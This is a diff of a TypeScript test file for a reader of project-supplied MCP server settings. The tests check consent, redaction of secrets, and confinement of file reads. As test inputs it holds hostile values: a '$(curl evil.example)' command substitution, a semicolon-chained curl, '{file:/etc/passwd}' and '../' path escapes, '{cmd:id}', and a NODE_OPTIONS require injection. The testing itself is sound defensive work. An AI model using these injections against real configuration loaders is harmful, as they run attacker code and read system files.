@@ -1,7 +1,11 @@
 import { describe, expect, it } from 'vitest';
 import { readSettings } from './read-settings.js';
 
-function read(project: string, own = '{ "mcpServers": { "db": { "command": "own" } } }') {
+function read(
+  project: string,
+  own = '{ "mcpServers": { "db": { "command": "own" } } }',
+  files: Readonly<Record<string, string>> = {},
+) {
   return readSettings({
     files: [
       { path: '/own', text: own, origin: 'own' },
@@ -9,10 +13,9 @@ function read(project: string, own = '{ "mcpServers": { "db": { "command": "own"
     ],
     environment: { TOKEN: 'canary' },
     homeFolder: '/home/ann',
-    readTextFile: () => {
-      throw new Error('a project read a file');
-    },
-    resolvePath: (folder, file) => `${folder}/${file}`,
+    realPathWithin: (_, path) => (path in files ? path : undefined),
+    readTextFile: (path) => files[path] ?? '',
+    resolvePath: (folder, file) => (file.startsWith('/') ? file : `${folder}/${file}`),
     runCommand: () => {
       throw new Error('a project ran a command');
     },
@@ -20,43 +23,103 @@ function read(project: string, own = '{ "mcpServers": { "db": { "command": "own"
 }
 
 describe("a project's file", () => {
-  it('has its servers listed as waiting, with nothing in them that could be started', () => {
-    const settings = read(
+  it('has servers that a person has to agree to, with what they are started with and what they read', () => {
+    const { servers, warnings } = read(
       JSON.stringify({
         mcpServers: {
           p: {
-            command: '{cmd:x}',
-            env: { T: '${TOKEN}{file:/etc/passwd}' },
+            command: 'npx',
+            args: ['-y', '@acme/p', '--token', 'CANARYargument'],
+            cwd: 'sub',
+            env: { KEY: 'CANARYvalue', T: '${TOKEN}', NODE_OPTIONS: '--require ./x.js' },
+            inheritEnv: ['AWS_PROFILE'],
             trusted: true,
-            description: 'x',
           },
-          r: { url: 'http://x/', headers: { A: '${TOKEN}' } },
+          r: { url: 'https://acme.example/mcp', headers: { Authorization: 'Bearer ${TOKEN}' } },
         },
       }),
     );
-    expect(settings.servers.slice(1)).toEqual([
-      {
-        name: 'p',
-        file: '/p/sluice.json',
-        enabled: true,
-        transport: { kind: 'stdio', command: '', args: [], env: {}, inheritEnv: [] },
-        connectTimeoutMs: 30_000,
-        concurrency: 16,
-        trusted: false,
-        written: '"{cmd:x}" env=T',
-        shown: '"{cmd:x}" env=T',
-        problem: {
-          message:
-            'Upstream "p" waits: the project\'s file /p/sluice.json defines it, and is not trusted yet',
-          hint: 'Copy its entry into your own configuration to use it.',
+    expect(warnings).toEqual([]);
+    expect(servers.slice(1).map(({ consent, trusted }) => [consent?.shown, trusted])).toEqual([
+      [
+        {
+          command: ['npx', '-y', '@acme/p', '--token', '[redacted]'],
+          cwd: 'sub',
+          env: ['KEY', 'NODE_OPTIONS=--require ./x.js', 'T'],
+          headers: [],
+          variables: ['AWS_PROFILE', 'TOKEN'],
+          files: [],
         },
-      },
-      expect.objectContaining({
-        name: 'r',
-        transport: { kind: 'http', url: '', headers: {}, mode: 'auto' },
-      }),
+        false,
+      ],
+      [
+        {
+          url: 'https://acme.example/mcp',
+          env: [],
+          headers: ['Authorization'],
+          variables: ['TOKEN'],
+          files: [],
+        },
+        false,
+      ],
     ]);
-    expect(JSON.stringify(settings)).not.toContain('canary');
+    expect(JSON.stringify(servers.map(({ consent }) => consent?.shown))).not.toContain('CANARY');
+    expect(servers[0]).not.toHaveProperty('consent');
+  });
+
+  it('hides nothing of a command line that could be more than a token', () => {
+    const args = ['--token', '$(curl evil.example)', 'API_KEY=x;curl', '--secret', './evil.js'];
+    const { servers } = read(JSON.stringify({ mcpServers: { p: { command: 'sh', args } } }));
+    expect(servers[1]?.consent?.shown.command).toEqual(['sh', ...args]);
+  });
+
+  it('binds a yes to every value and to the text of each file that is put in', () => {
+    const bound = (server: object, text = 'one') =>
+      read(JSON.stringify({ mcpServers: { p: server } }), undefined, { '/p/key.txt': text })
+        .servers[1]?.consent?.bound;
+    const server = { command: 'x', args: ['a'], env: { A: '1', B: '{file:key.txt}' } };
+    const others = [
+      { ...server, args: ['b'] },
+      { ...server, env: { A: '2', B: '{file:key.txt}' } },
+      { ...server, cwd: '/tmp' },
+      { ...server, inheritEnv: ['X'] },
+    ];
+    const all = [bound(server), bound(server, 'two'), ...others.map((other) => bound(other))];
+    expect(new Set(all).size).toBe(all.length);
+    expect(bound(server)).toBe(bound({ ...server, timeout: 5000, description: 'd' }));
+  });
+
+  it('reads files within its folder alone, and runs no command', () => {
+    const problems = ['{file:/etc/passwd}', '{file:../x}', '{cmd:id}'].map(
+      (text) =>
+        read(JSON.stringify({ mcpServers: { p: { command: 'x', env: { A: text } } } })).servers[1]
+          ?.problem?.message,
+    );
+    const outside = 'which is not there, or stands outside of its folder';
+    expect(problems).toEqual([
+      `Cannot start upstream "p": env.A names the file "/etc/passwd", ${outside}`,
+      `Cannot start upstream "p": env.A names the file "../x", ${outside}`,
+      'Cannot start upstream "p": env.A holds {cmd:…}, which only your own configuration file in its usual place may use',
+    ]);
+  });
+
+  it('puts nothing into its rules, and nothing into what a model reads of its servers', () => {
+    const [, p] = read(
+      JSON.stringify({
+        mcpServers: {
+          p: { command: '${TOKEN}', description: '${TOKEN}', prefix: '{env:TOKEN}' },
+        },
+      }),
+    ).servers;
+    expect(p).toMatchObject({
+      transport: { command: 'canary' },
+      description: '${TOKEN}',
+      prefix: '{env:TOKEN}',
+    });
+    const rule = { match: 'mcp__${TOKEN}__*', action: 'deny' };
+    expect(read(JSON.stringify({ policy: [rule] })).policy).toEqual([
+      { ...rule, origin: 'project' },
+    ]);
   });
 
   it('cannot take the place of a server of the user: whole entries win, and the hidden one is named', () => {
